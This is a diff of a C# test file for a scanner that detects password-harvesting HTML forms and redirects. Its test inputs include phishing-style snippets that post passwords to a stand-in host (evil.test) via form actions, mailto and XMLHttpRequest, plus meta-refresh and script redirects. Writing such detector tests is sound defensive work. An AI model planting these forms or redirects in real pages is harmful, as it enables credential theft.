@@ -25,10 +25,33 @@ public class PageScriptTests
     {
         var page = "<html><form action=\"https://evil.test/p\"><input type=password></form></html>"u8.ToArray();
 
-        var finding = Assert.Single(Letters.Ask(new PageScript(), "login.htm", page));
-        Assert.Equal(("HTML_PASSWORD_FORM", "sent to https://evil.test/p"), (finding.Kind.Code, finding.Evidence));
+        Assert.Equal([("HTML_PASSWORD_FORM", "sent to https://evil.test/p"), ("HTML_PASSWORD_SENT", "sent to https://evil.test/p")], Letters.Ask(new PageScript(), "login.htm", page).Select(f => (f.Kind.Code, f.Evidence)));
         using var body = Letters.Text("From: a@b.test\nContent-Type: text/html\n\n" + Encoding.ASCII.GetString(page));
         Assert.Equal(["HTML_BODY_PASSWORD_FORM"], Letters.Ask(new PageScript(), body).Select(f => f.Kind.Code));
+    }
+
+    [Theory]
+    [InlineData("<form><input type=password></form>", false)]
+    [InlineData("<form action='/login'><input type=password></form>", false)]
+    [InlineData("<form action='mailto:a@evil.test'><input type=password></form>", true)]
+    [InlineData("<form><input type=password></form><script>var x = new XMLHttpRequest(); x.open('POST', 'https://evil.test/p');</script>", true)]
+    [InlineData("<script>fetch('https://news.test/p')</script>", false)]
+    public void SentPassword_IsFound(string page, bool isSent) =>
+        Assert.Equal(isSent, Letters.Codes(new PageScript(), "a.html", Encoding.ASCII.GetBytes($"<html><body>{page}</body></html>")).Contains("HTML_PASSWORD_SENT"));
+
+    [Theory]
+    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.test/\">", true)]
+    [InlineData("<meta http-equiv=refresh content=\"url=https://evil.test/\">", true)]
+    [InlineData("<meta http-equiv=refresh content=\"60;url=https://evil.test/\">", false)]
+    [InlineData("<meta http-equiv=refresh content=\"0;url=next.html\">", false)]
+    [InlineData("<script>window.location.replace('https://evil.test/')</script>", true)]
+    [InlineData("<script>function go() { location.href='https://evil.test/'; }</script>", false)]
+    [InlineData("<button onclick=\"location.href='https://evil.test/'\">x</button>", false)]
+    public void PageThatLeadsOn_IsFound(string page, bool isFound)
+    {
+        Assert.Equal(isFound, Letters.Codes(new PageScript(), "a.html", Encoding.ASCII.GetBytes($"<html><body>{page}</body></html>")).Contains("HTML_REDIRECT"));
+        using var body = Letters.Text($"From: a@b.test\nContent-Type: text/html\n\n<html><body>{page}</body></html>");
+        Assert.DoesNotContain(Letters.Ask(new PageScript(), body), f => f.Kind.Code == "HTML_REDIRECT");
     }
 
     [Fact]
